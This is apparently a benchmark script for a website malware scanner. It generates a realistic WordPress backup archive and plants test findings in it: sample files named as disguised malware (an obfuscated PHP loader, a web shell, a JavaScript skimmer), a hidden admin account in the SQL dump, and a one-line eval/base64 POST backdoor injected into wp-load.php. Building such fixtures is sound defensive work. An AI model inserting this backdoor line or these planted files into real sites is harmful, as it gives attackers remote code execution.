#!/usr/bin/env python3
"""Writes a realistic large site backup, deterministically (same bytes every run).

What a WordPress site with years of uploads looks like in a host's backup:
- the real WordPress core tree (Debian's 6.1.9), deflated, as sites are;
- plugins with vendor folders (real PHP libraries from Debian: Twig, phpseclib, TCPDF…);
- tens of thousands of media files: JPEG-like incompressible data of realistic sizes
  (log-normal, median ~80 KB, long tail to 6 MB), each with a thumbnail, stored uncompressed
  (what backup tools do with media) — ~90 % of the bytes, as in PERFORMANCE-NOTES.md;
- web server logs and a SQL dump (deflated);
- a few planted findings (defanged samples from tests/data/malware, an injected wp-load.php),
  so the scan has real work to report.

The format follows the name: .zip (ZIP64 once the archive passes 4 GB or 65,535 entries,
as Info-ZIP and Python do) or .tar.gz (gzip level 6, like cPanel's backups).

Usage: bench/make-backup.py OUT.zip|OUT.tar.gz SIZE_MB
Needs the Debian trees the tests download (run `cargo test` once, or scripts/test.sh).
"""
import io, os, random, sys, tarfile, time, zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DATA = os.path.join(ROOT, "target", "test-data")
WP = os.path.join(DATA, "wordpress", "usr", "share", "wordpress")
# (plugin folder, Debian tree, folder inside it) — a plugin bundling a library in vendor/.
PLUGINS = [
    ("woo-pdf-invoices", "php-tcpdf", "usr/share/php"),
    ("twig-templates", "php-twig", "usr/share/php"),
    ("secure-sftp-backup", "php-phpseclib", "usr/share/php"),
    ("media-meta", "php-getid3", "usr/share/php"),
    ("smtp-mailer", "libphp-phpmailer", "usr/share/php"),
]
PLANTED = [
    ("wp-content/uploads/2024/03/logo.png.php", "obf-gz-b64.php"),
    ("wp-content/uploads/2024/03/cache.php", "filesman.php"),
    ("wp-includes/class-wp-cache-helper.php", "obf-three-layers.php"),
    ("wp-content/themes/twentytwentythree/inject.js", "skimmer.js"),
]
FIXED = (2024, 3, 5, 10, 20, 30)


class Writer:
    """One interface over ZIP and tar.gz output."""

    def __init__(self, path, tar):
        self.tar = tar
        if self.tar:
            self.f = tarfile.open(path, "w:gz", compresslevel=6, format=tarfile.GNU_FORMAT)
        else:
            self.f = zipfile.ZipFile(path, "w", allowZip64=True)

    def add(self, name, data, when, compress=True):
        if self.tar:
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            info.mtime = int(time.mktime(when + (0, 0, -1)))
            self.f.addfile(info, io.BytesIO(data))
        else:
            z = zipfile.ZipInfo(name, when)
            z.compress_type = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
            self.f.writestr(z, data)

    def close(self):
        self.f.close()


def tree(base):
    for d, dirs, names in os.walk(base):
        dirs.sort()
        for n in sorted(names):
            p = os.path.join(d, n)
            if os.path.isfile(p) and not os.path.islink(p):
                yield p, os.path.relpath(p, base)


def main():
    out, size_mb = sys.argv[1], int(sys.argv[2])
    if not os.path.isdir(WP):
        sys.exit("make-backup: %s is missing; run `cargo test` once (it downloads Debian's wordpress)" % WP)
    rng = random.Random(20261121)
    pool = rng.randbytes(8 << 20)  # media bytes are slices of one random pool
    target = size_mb << 20
    written = 0
    w = Writer(out + ".tmp", out.endswith((".tar.gz", ".tgz")))
    site = "public_html/"
    planted = dict(PLANTED)
    for p, rel in tree(WP):
        if rel in planted:
            continue
        data = open(p, "rb").read()
        if rel == "wp-load.php":  # a one-line injection in a core file
            data = data.replace(b"<?php", b"<?php @eval( base64_decode( $_POST['wp_c'] ) );", 1)
        w.add(site + rel, data, (2022, 11, 30, 12, 0, 0))
        written += len(data) // 4
    for plugin, pkg, sub in PLUGINS:
        base = os.path.join(DATA, pkg, sub)
        header = ("<?php\n/*\nPlugin Name: %s\nVersion: 2.%d.0\n*/\nrequire __DIR__ . '/vendor/autoload.php';\n" % (plugin, len(plugin))).encode()
        w.add(site + "wp-content/plugins/%s/%s.php" % (plugin, plugin), header, (2023, 6, 1, 9, 0, 0))
        for p, rel in tree(base) if os.path.isdir(base) else []:
            data = open(p, "rb").read()
            w.add(site + "wp-content/plugins/%s/vendor/%s/%s" % (plugin, pkg, rel), data, (2023, 6, 1, 9, 0, 0))
            written += len(data) // 4
    malware = os.path.join(ROOT, "tests", "data", "malware")
    for rel, sample in PLANTED:
        w.add(site + rel, open(os.path.join(malware, sample), "rb").read(), FIXED)
    # Logs: an access log per month, deflating about 10:1 like real ones.
    agents = [b"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", b"Googlebot/2.1", b"curl/8.4.0"]
    for month in range(1, 13):
        lines = []
        for i in range(20000):
            lines.append(b'203.0.113.%d - - [%02d/%02d/2024:%02d:%02d:00 +0000] "GET /?p=%d HTTP/1.1" 200 %d "-" "%s"\n' % (
                rng.randrange(256), 1 + i % 28, month, i % 24, i % 60, rng.randrange(9000), rng.randrange(90000), rng.choice(agents)))
        data = b"".join(lines)
        w.add("logs/access-2024-%02d.log" % month, data, (2024, month, 28, 23, 59, 0))
        written += len(data) // 10
    sql = "".join("INSERT INTO wp_posts VALUES (%d,'post %d','%s');\n" % (i, i, "lorem ipsum " * rng.randint(5, 80)) for i in range(60000))
    sql += "INSERT INTO `wp_users` VALUES (1,'admin','$P$Bxx','admin','owner@example.test','','2019-04-01 10:00:00','',0,'admin'),(7,'wp_update_service','$P$Byy','wp_update_service','x@example.invalid','','2024-03-05 10:22:00','',0,'wp_update_service');\n"
    w.add("mysql/site.sql", sql.encode(), (2024, 3, 6, 0, 0, 0))
    written += len(sql) // 8
    i = 0
    while written < target:
        year, month = 2015 + i % 10, 1 + i % 12
        size = int(rng.lognormvariate(11.3, 0.9))  # median ~80 KB, long tail
        size = max(20_000, min(size, 6 << 20))
        off = rng.randrange(0, len(pool) - size) if size < len(pool) else 0
        data = (b"\xff\xd8\xff\xe0" + pool[off:off + size])[:size]
        base = site + "wp-content/uploads/%d/%02d/img-%06d" % (year, month, i)
        w.add(base + ".jpg", data, (year, month, 1, 12, 0, 0), compress=False)
        thumb = data[: max(4000, size // 20)]
        w.add(base + "-150x150.jpg", thumb, (year, month, 1, 12, 0, 0), compress=False)
        written += size + len(thumb)
        i += 1
    w.close()
    os.replace(out + ".tmp", out)
    print("%s: %d MB, %d media files" % (out, os.path.getsize(out) >> 20, 2 * i))


if __name__ == "__main__":
    main()
